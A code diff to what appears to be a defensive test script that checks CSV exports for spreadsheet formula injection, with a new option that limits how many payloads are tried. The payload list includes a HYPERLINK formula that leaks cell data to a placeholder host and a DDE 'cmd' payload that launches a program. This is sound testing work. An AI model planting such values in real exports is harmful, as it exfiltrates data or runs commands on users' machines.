@@ -5,8 +5,9 @@ import argparse, csv, io
 from lib import *
 csv.field_size_limit(1 << 30)
 ap = argparse.ArgumentParser(); common(ap); ap.add_argument("--export", action="append", required=True, help="writes CSV to {out}"); ap.add_argument("--write", action="append", default=[], help="{val} is the payload")
+ap.add_argument("--payloads", type=int, default=13)
 a = ap.parse_args(); bad = []; st = {}; tried = set(); shown = set()
-PAYLOADS = ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "=HYPERLINK(\"http://example.invalid/?\"&A1)", "＝1+1", "－1+1", "=cmd|' /C calc'!A0", "=", "'=1", "＠A1"]
+PAYLOADS = ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "=HYPERLINK(\"http://example.invalid/?\"&A1)", "＝1+1", "－1+1", "=cmd|' /C calc'!A0", "=", "'=1", "＠A1"][:a.payloads]
 TRIG = "=+-@\t\r\n＝＋－＠"
 d = tempfile.mkdtemp(prefix="exp-", dir=a.work); db0 = setup(a.init, d); db = os.path.join(d, "p.db"); out = os.path.join(d, "out.csv")
 # numbers, dates and a missing value's dash are no formulas
